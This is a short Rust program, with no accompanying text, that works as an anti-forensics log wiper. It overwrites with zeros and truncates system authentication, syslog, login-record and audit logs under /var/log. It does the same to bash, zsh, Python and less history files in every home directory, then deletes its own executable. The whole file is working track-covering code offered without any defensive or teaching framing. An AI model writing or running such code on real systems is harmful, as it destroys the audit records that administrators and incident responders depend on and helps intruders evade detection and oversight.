use std::env;
use std::fs::{self, OpenOptions};
use std::io::Write;
use std::path::Path;

const LOGS: &[&str] = &["auth.log", "secure", "syslog", "messages", "wtmp", "btmp", "lastlog", "audit/audit.log"];

fn blank(p: &Path) {
    if let Ok(meta) = fs::metadata(p) {
        if let Ok(mut f) = OpenOptions::new().write(true).open(p) {
            let _ = f.write_all(&vec![0u8; meta.len() as usize]);
            let _ = f.set_len(0);
        }
    }
}

fn main() {
    for l in LOGS {
        blank(&Path::new("/var/log").join(l));
    }
    for home in fs::read_dir("/home").into_iter().flatten().flatten() {
        for h in [".bash_history", ".zsh_history", ".python_history", ".lesshst"] {
            blank(&home.path().join(h));
        }
    }
    if let Ok(me) = env::current_exe() {
        let _ = fs::remove_file(me);
    }
}
